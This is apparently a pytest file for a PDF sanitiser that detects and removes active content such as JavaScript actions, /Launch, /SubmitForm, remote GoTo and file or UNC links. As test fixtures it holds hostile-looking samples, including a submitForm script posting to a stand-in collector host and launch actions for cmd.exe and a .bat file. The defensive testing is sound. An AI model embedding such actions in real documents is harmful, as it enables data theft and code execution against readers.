"""Issue #16, PDF active and attached content: JavaScript, /Launch, /ImportData, /SubmitForm,
/GoToR and file: links wherever they hang (document, page, link, link /AA, bookmark, /Next
chains with a cycle), associated files, page XMP and /PieceInfo: each reported by ``inspect``
with its rule and page, removed by ``sanitize``; the clean copy re-inspects clean, holds none
of it in its bytes, and shows the same text. Ordinary links are never reported."""

from __future__ import annotations


import pytest
from pypdf import PdfReader

from conftest import sha256_of
from cspr_docs.document import read_document
from cspr_docs.inspect import inspect_document
from cspr_docs.sanitize import sanitize_file
from fixtures.hidden import pdf_crafted as c

#: (rule, page, field, text) expected from c.pdf_active, written down before running
EXPECTED = {
    ("HID006", None, "javascript", "app.alert('closing');"),                       # document /AA
    ("HID006", None, "javascript", "this.submitForm('https://collector.example.net');"),  # /OpenAction's /Next
    ("HID006", 2, "action", "C:\\Users\\jsmith\\Desktop\\notes.bat"),              # page /AA /Launch
    ("HID006", 1, "javascript", "app.launchURL('x');"),                            # link /A
    ("HID006", 1, "action", "file:///C:/Users/jsmith/case/JaydenWalsh.docx"),      # file: link
    ("HID006", 2, "action", "https://collector.example.net/form"),                 # /SubmitForm
    ("HID006", 2, "action", "family-data.fdf"),                                    # link /AA /ImportData
    ("HID006", 2, "action", "\\\\server\\share\\Walsh chronology.pdf"),            # /GoToR
    ("HID006", None, "javascript", "app.alert('bookmark');"),                      # bookmark /A
    ("HID006", None, "associated file", "source-notes.txt"),                       # catalogue /AF
    ("HID005", 1, "page XMP", "Jane Smith"),                                       # page /Metadata
    ("HID008", 2, "PieceInfo", None),                                              # page /PieceInfo
}


def _key(f):
    return (f.rule, f.location.page, f.location.field, None if f.location.field == "PieceInfo" else f.text)


def hid(path):
    return [f for f in inspect_document(read_document(path)) if f.rule.startswith("HID")]


def _all_bytes(path) -> bytes:
    """Every object of the file, streams decoded, as one byte string (to search for leftovers)."""
    reader = PdfReader(path)
    out = [path.read_bytes()]
    for num, gen in ((n, g) for g, nums in reader.xref.items() for n in nums):
        try:
            obj = reader.get_object(num)
        except Exception:
            continue
        out.append(str(obj).encode("utf-8", "replace"))
        if hasattr(obj, "get_data"):
            out.append(obj.get_data())
    return b"\n".join(out)


def test_active_content_everywhere_is_reported_with_rule_and_page(tmp_path):
    found = hid(c.pdf_active(tmp_path / "a.pdf"))
    assert {_key(f) for f in found} == EXPECTED
    assert len(found) == len(EXPECTED)  # each once: the /Next cycle ends
    for f in found:
        assert f.severity.value == ("warning" if f.rule in ("HID005", "HID008") else "error")
    bookmark = next(f for f in found if f.text == "app.alert('bookmark');")
    assert "bookmark" in bookmark.message


def test_sanitize_removes_active_content_and_keeps_the_text(tmp_path):
    src = c.pdf_active(tmp_path / "a.pdf")
    before = sha256_of(src)
    out = tmp_path / "a.clean.pdf"
    removed, copy = sanitize_file(src, out)
    assert sha256_of(src) == before
    assert len(removed) == len(EXPECTED)
    assert hid(out) == []
    assert [f for f in inspect_document(copy) if f.rule.startswith("HID")] == []
    everything = _all_bytes(out)
    for leftover in (b"app.alert", b"submitForm", b"notes.bat", b"JaydenWalsh", b"family-data", b"chronology",
                     b"source-notes", b"Kelly Walsh", b"Jane Smith", b"PieceInfo", b"Jayden Walsh", b"launchURL"):
        assert leftover not in everything, leftover
    assert [p.extract_text() for p in PdfReader(out).pages] == [p.extract_text() for p in PdfReader(src).pages]
    # the ordinary web link and the bookmark itself survive; only their scripts went
    reader = PdfReader(out)
    uris = [a.get_object()["/A"].get("/URI") for a in reader.pages[0].get("/Annots", [])
            if a.get_object().get("/A") is not None]
    assert "https://www.gov.uk/government/publications" in uris
    assert [o.title for o in reader.outline] == ["Summary"]
    # the open action's GoTo is kept and its /Next no longer leads to the script
    assert reader.trailer["/Root"]["/OpenAction"].get("/S") == "/GoTo"


def test_ordinary_links_and_bookmarks_are_not_reported(tmp_path):
    src = c.pdf_decoy_links(tmp_path / "d.pdf")
    assert hid(src) == []
    out = tmp_path / "d.clean.pdf"
    removed, _ = sanitize_file(src, out)
    assert removed == []
    reader = PdfReader(out)
    assert len(reader.pages[0]["/Annots"]) == 4  # fpdf2's link and the three added ones


def test_javascript_in_a_next_array_is_cut_out_of_the_chain(tmp_path):
    from pypdf.generic import ArrayObject

    w = c.writer_over(c.base_pdf(link=None))
    uri = c._d(S="/URI", URI="https://www.gov.uk/")
    uri[c._n("/Next")] = ArrayObject([w._add_object(c.js("app.alert(1);")),
                                      w._add_object(c._d(S="/Launch", F="cmd.exe"))])
    c.link(w, 0, uri)
    src = c.save(w, tmp_path / "n.pdf")
    assert sorted(f.text for f in hid(src)) == ["app.alert(1);", "cmd.exe"]
    out = tmp_path / "n.clean.pdf"
    sanitize_file(src, out)
    assert hid(out) == []
    (annot,) = PdfReader(out).pages[0]["/Annots"]
    assert annot.get_object()["/A"]["/URI"] == "https://www.gov.uk/"


@pytest.mark.parametrize("uri", ["javascript:alert(1)", "\\\\fileserver\\cases\\walsh.docx", "smb://server/x"])
def test_unusual_link_addresses_are_reported(tmp_path, uri):
    w = c.writer_over(c.base_pdf(link=None))
    c.link(w, 0, c._d(S="/URI", URI=uri))
    (f,) = hid(c.save(w, tmp_path / "u.pdf"))
    assert (f.rule, f.location.page, f.text) == ("HID006", 1, uri)


def test_an_xfa_form_without_fields_is_reported_and_removed(tmp_path):
    from pypdf.generic import ArrayObject

    w = c.writer_over(c.base_pdf(link=None))
    xfa = c._stream(b"<xdp:xdp><script>xfa.host.messageBox('hi')</script></xdp:xdp>")
    acro = c._d()
    acro[c._n("/Fields")] = ArrayObject()
    acro[c._n("/XFA")] = w._add_object(xfa)
    w._root_object[c._n("/AcroForm")] = w._add_object(acro)
    src = c.save(w, tmp_path / "x.pdf")
    assert [(f.rule, f.location.field) for f in hid(src)] == [("HID006", "form")]
    out = tmp_path / "x.clean.pdf"
    removed, _ = sanitize_file(src, out)
    assert "form fields" in removed and hid(out) == []
    assert b"messageBox" not in _all_bytes(out)


@pytest.mark.parametrize("uri", ["www.gov.uk/government/publications", "tel:08001111", "#page=2",
                                 "HTTPS://WWW.GOV.UK/"])
def test_ordinary_link_addresses_are_not_reported(tmp_path, uri):
    w = c.writer_over(c.base_pdf(link=None))
    c.link(w, 0, c._d(S="/URI", URI=uri))
    assert hid(c.save(w, tmp_path / "u.pdf")) == []
